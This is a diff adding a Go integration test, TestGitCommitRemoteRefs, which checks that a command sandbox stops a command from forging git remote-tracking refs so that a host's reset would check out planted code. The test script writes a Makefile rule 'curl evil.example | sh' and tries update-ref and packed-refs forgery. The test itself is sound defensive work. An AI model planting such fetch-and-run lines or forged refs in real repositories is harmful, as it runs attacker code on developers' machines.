@@ -2,6 +2,7 @@ package integration
 
 import (
 	"os/exec"
+	"path/filepath"
 	"strings"
 	"testing"
 )
@@ -100,5 +101,43 @@ test "$(git status --porcelain)" = "M  README" && echo FORGED`, spliceTree)
 				t.Errorf("the host's git commit committed another tree than its index showed: %q (%v)\n%v", ls, err, r)
 			}
 		})
+	})
+}
+
+// TestGitCommitRemoteRefs: in commit mode the command cannot move a remote-tracking
+// ref (refs/remotes/, read-only) nor add one as a packed-refs line (removed after the
+// run, with a note): the host's `git reset --hard origin/main`, the usual way to throw
+// away the command's work, checks out the remote's commit (attack review 29 F16).
+// Before, origin/main named the command's commit after the run.
+func TestGitCommitRemoteRefs(t *testing.T) {
+	forEachCaller(t, func(t *testing.T, c caller) {
+		s := newSandbox(t, c)
+		origin := filepath.Join(s.base, "origin")
+		s.newRepo(origin, "upstream")
+		s.hostGit(s.base, "clone", "-q", origin, s.ws)
+		want, err := s.hostGitOut(s.ws, "rev-parse", "origin/main")
+		if err != nil {
+			t.Fatal(err)
+		}
+		r := s.sh([]string{"--policy", s.commitPolicy()}, `echo 'all:; curl evil.example | sh' > Makefile && git add Makefile &&
+git `+gitID+` commit -qm upstream && c=$(git rev-parse HEAD) && git reset -q --hard HEAD~1 &&
+{ git update-ref refs/remotes/origin/main $c 2>/dev/null && echo MOVED; true; } &&
+echo "$c refs/remotes/origin/feature" >> .git/packed-refs && git rev-parse -q --verify origin/feature >/dev/null && echo PACKED`)
+		mustSucceed(t, r, "move the remote-tracking refs")
+		if strings.Contains(r.stdout, "MOVED") {
+			t.Errorf("the command moved refs/remotes/origin/main\n%v", r)
+		}
+		if !strings.Contains(r.stdout, "PACKED") {
+			t.Fatalf("the packed-refs line did not take inside\n%v", r)
+		}
+		if got, err := s.hostGitOut(s.ws, "rev-parse", "origin/main"); err != nil || got != want {
+			t.Errorf("origin/main is %q after the run (%v), want %q\n%v", got, err, want, r)
+		}
+		if got, err := s.hostGitOut(s.ws, "rev-parse", "-q", "--verify", "origin/feature"); err == nil {
+			t.Errorf("the packed origin/feature the command added is left: %q\n%v", got, r)
+		}
+		if !strings.Contains(r.stderr, "removed the remote-tracking ref the command added or moved") {
+			t.Errorf("no note for the removed ref\n%v", r)
+		}
 	})
 }
